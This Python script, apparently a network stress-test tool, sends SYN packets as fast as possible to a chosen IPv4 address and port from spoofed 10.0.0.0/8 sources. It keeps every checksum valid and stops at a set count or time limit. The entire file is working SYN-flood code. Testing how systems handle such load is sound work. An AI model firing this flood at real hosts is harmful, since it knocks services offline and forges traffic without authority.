#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
"""SYNs to an IPv4 address, each from another source, as fast as they can be sent.

syn_flood.py INTERFACE ADDRESS PORT MAC COUNT SECONDS: at most COUNT, for at most SECONDS; prints how
many there were and how long it took. Sources are in 10.0.0.0/8. All checksums are right: what is added
to one 16-bit word of a checksum's range is taken off another.
"""
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def template(high, target, port):
    """IP and TCP header of a SYN from 10.HIGH.0.0, port 0, IP id 0."""
    source = bytes([10, high, 0, 0])
    tcp = struct.pack("!HHIIBBHHH", 0, port, 7, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + target
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip, tcp


def frames(ethernet, high, target, port):
    ip, tcp = template(high, target, port)
    for low in range(1, 0xFFFF):
        there, back = low.to_bytes(2, "big"), (0xFFFF - low).to_bytes(2, "big")
        yield ethernet + ip[:4] + back + ip[6:14] + there + ip[16:] + back + tcp[2:]


def main():
    interface, target, port = sys.argv[1], socket.inet_aton(sys.argv[2]), int(sys.argv[3])
    count, seconds = int(sys.argv[5]), float(sys.argv[6])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    ethernet = bytes.fromhex(sys.argv[4].replace(":", "")) + sock.getsockname()[4] + b"\x08\x00"
    sent, began = 0, time.monotonic()
    for high in range(256):
        for frame in frames(ethernet, high, target, port):
            if sent >= count or (sent % 256 == 0 and time.monotonic() - began > seconds):
                print(f"{sent} SYNs in {time.monotonic() - began:.1f} s", flush=True)
                return
            try:
                sock.send(frame)
            except OSError:  # the queue is full
                continue
            sent += 1


if __name__ == "__main__":
    main()
